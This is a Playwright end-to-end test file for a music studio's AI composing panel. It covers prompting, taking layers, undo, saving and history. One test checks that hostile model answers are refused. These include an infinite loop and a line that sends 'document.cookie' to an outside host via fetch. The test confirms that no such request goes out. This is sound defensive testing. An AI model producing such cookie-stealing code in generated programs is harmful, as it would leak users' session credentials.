import type { Locator, Page } from '@playwright/test';
import { ModelProcess } from './model-process.ts';
import { endsSilent, hasOnsets, louder, recordedOnsets } from './onsets.ts';
import { Product } from './product.ts';
import { hear, listenTo, recordWhile } from './recorder.ts';
import { StudioDriver } from './studio-driver.ts';
import { expect, test } from './test.ts';

/** The assistant as a person finds it. */
class AssistantSide {
  readonly side: Locator;
  readonly proposal: Locator;

  constructor(private readonly page: Page) {
    this.side = page.getByRole('region', { name: 'Compose with AI' });
    this.proposal = this.side.getByRole('region', { name: 'Proposal' });
  }

  async open(): Promise<void> {
    await this.page.getByRole('button', { name: 'Compose with AI' }).click();
    await expect(this.side.getByRole('textbox')).toBeFocused();
  }

  button(name: string): Locator {
    return this.side.getByRole('button', { name, exact: true });
  }

  async ask(prompt: string): Promise<void> {
    await this.side.getByRole('textbox').fill(prompt);
    await this.side.getByRole('textbox').press('Control+Enter');
  }
}

/** The program that the grid shows, and its tempo: with both, the music. */
async function musicIn(studio: StudioDriver) {
  const { page, bpm } = studio;
  await page.getByRole('tab', { name: 'Live Code' }).click();
  await expect(page.locator('#hocket-code .ace_content')).toBeVisible();
  const code = await page
    .locator('.ace_editor')
    .evaluate((node) => (node as unknown as AceNode).env.editor.getValue());
  await page.getByRole('tab', { name: 'Visual Grid' }).click();
  return { code, bpm: await bpm.inputValue() };
}

interface AceNode {
  env: { editor: { getValue(): string } };
}

// @spec product.ai entity.ai-history calls.ai-generate calls.ai-keep limit.storage
test('from an empty project: a prompt, heard, two layers taken, changed in words, saved, and the same after a reload', async ({
  studio,
  page,
}) => {
  test.setTimeout(240_000);
  const assistant = new AssistantSide(page);
  await assistant.open();
  await assistant.ask('dark techno at 132 BPM with drums, bass and a melody');
  await expect(assistant.proposal).toBeVisible({ timeout: 20_000 });
  await expect(assistant.proposal.getByText('120 → 132 BPM')).toBeVisible();

  const takes = assistant.side.getByRole('tablist', { name: 'Takes' });
  await expect(takes.getByRole('tab')).toHaveCount(3);
  await takes.getByRole('tab', { name: /^B/ }).click();
  await assistant.button('Listen to B').click();
  await hear(page, (heard) => louder(0.05)(heard) && recordedOnsets(heard, 2).length > 3);
  await takes.getByRole('tab', { name: /^B/ }).press('ArrowLeft');
  await assistant.button('Stop listening').click();
  await expect(studio.grid.locator('[aria-pressed="true"]')).toHaveCount(0);

  const boxes = assistant.proposal.getByRole('checkbox');
  for (const box of await boxes.all()) await box.uncheck();
  for (const name of [/^Kick/, /^Bass/]) {
    await assistant.proposal.getByRole('checkbox', { name }).check();
  }
  await assistant.proposal.getByRole('button', { name: /^Take chosen \(2 of/ }).click();
  await expect(page.getByText('Layers taken into your project: 2')).toBeVisible();
  await expect(studio.cell('Kick', 1)).toHaveAttribute('aria-pressed', 'true');
  const two = await musicIn(studio);
  expect(two.bpm).toBe('132');

  await expect(assistant.side.getByRole('radio', { name: 'Change what I have' })).toBeChecked();
  await studio.play();
  await assistant.ask('add a melody');
  await expect(assistant.proposal).toBeVisible({ timeout: 20_000 });
  await expect(assistant.proposal.getByText('added', { exact: true })).toHaveCount(1);
  await assistant.proposal.getByRole('button', { name: /^Listen/ }).click();
  const heard = assistant.proposal.getByRole('status');
  await expect(heard).toContainText('You hear the take.', { timeout: 60_000 });
  await assistant.button('Stop listening').focus();
  await page.keyboard.down('b');
  await expect(heard).toContainText('You hear the music of before.');
  await page.keyboard.up('b');
  await assistant.button('Stop listening').click();
  await studio.stop();
  await assistant.button('Take all').click();
  await expect(page.getByText('The music is in your project.')).toBeVisible();
  const three = await musicIn(studio);
  expect(three.code.startsWith(two.code.slice(0, 20))).toBe(true);
  expect(three.code.length).toBeGreaterThan(two.code.length);

  await page.getByRole('button', { name: 'Undo', exact: true }).last().click();
  await expect.poll(() => musicIn(studio)).toEqual(two);
  await page.keyboard.press('Control+Shift+z');
  await expect.poll(() => musicIn(studio)).toEqual(three);

  await studio.save();
  await page.reload();
  await studio.ready();
  await expect.poll(() => musicIn(studio)).toEqual(three);
  await studio.play();
  await hear(page, louder(0.05));
  await studio.stop();

  await assistant.open();
  await assistant.side.getByRole('tab', { name: 'History' }).click();
  const kept = assistant.side.getByRole('list', { name: 'All your answers' });
  await expect(kept.getByRole('heading')).toHaveText([
    'add a melody',
    'dark techno at 132 BPM with drums, bass and a melody',
  ]);
  const recent = assistant.side.getByRole('list', { name: 'Recent' });
  await expect(recent.getByRole('heading')).toHaveCount(2);
  await assistant.side.getByRole('searchbox').fill('techno');
  await expect(kept.getByRole('heading')).toHaveCount(1);
});

test('a hostile answer ends in a sentence, while the music that plays goes on; one that is no Strudel is repaired, and that is told', {
  tag: '@sound',
}, async ({ page }) => {
  test.setTimeout(120_000);
  const model = await ModelProcess.start();
  const settings = { AI_PROVIDER: 'openai', AI_MODEL: 'fake', AI_URL: model.url };
  const product = await Product.start(settings);
  try {
    await listenTo(page);
    const studio = new StudioDriver(page, product.url);
    await studio.signUp();
    const others: string[] = [];
    page.on('request', (request) => others.push(request.url()));
    await studio.click('Snare', [1, 5, 9, 13]);
    await studio.play();
    const assistant = new AssistantSide(page);
    await assistant.open();
    await expect(
      assistant.side.getByText(/your prompt stays on this studio’s server/),
    ).toBeVisible();
    for (const program of [
      'while (true) {}',
      'fetch("https://example.org/?" + document.cookie); s("nothing")',
    ]) {
      model.says(program);
      const isRefused = async () => {
        await assistant.ask('a beat');
        await expect.poll(() => model.asked).toBe(3);
        await expect(assistant.side.getByRole('alert')).toContainText(/attempts: 3/, {
          timeout: 40_000,
        });
      };
      const heard = await recordWhile(page, isRefused, hasOnsets(9));
      await expect(assistant.proposal).toHaveCount(0);
      await expect(assistant.side.getByRole('textbox')).toHaveValue('a beat');
      // Four snares a bar at 120 bpm: every half second, none left out.
      const onsets = recordedOnsets(heard);
      const gaps = onsets.slice(1).map((onset, index) => onset - (onsets[index] ?? 0));
      expect(onsets.length).toBeGreaterThan(8);
      expect(Math.max(...gaps)).toBeLessThan(0.52);
    }
    expect(others.filter((url) => url.includes('example.org'))).toEqual([]);

    await studio.stop();
    await hear(page, endsSilent());
    model.says('stack(s("bd*4"), s("hh*8")', 'stack(s("bd*4"), s("hh*8"))');
    await assistant.ask('a beat');
    await expect(assistant.proposal).toBeVisible({ timeout: 20_000 });
    await expect(
      assistant.proposal.getByText('Repaired once: the first answer did not play.').first(),
    ).toBeVisible();
    await expect.poll(() => model.asked).toBe(2);
    await expect(assistant.side.getByRole('tab', { name: /^A/ })).toHaveCount(0);
    await expect(assistant.button('Another take')).toBeVisible();
    await assistant.button('Listen').click();
    await hear(page, louder(0.05));
  } finally {
    await product.dispose();
    model.dispose();
  }
});
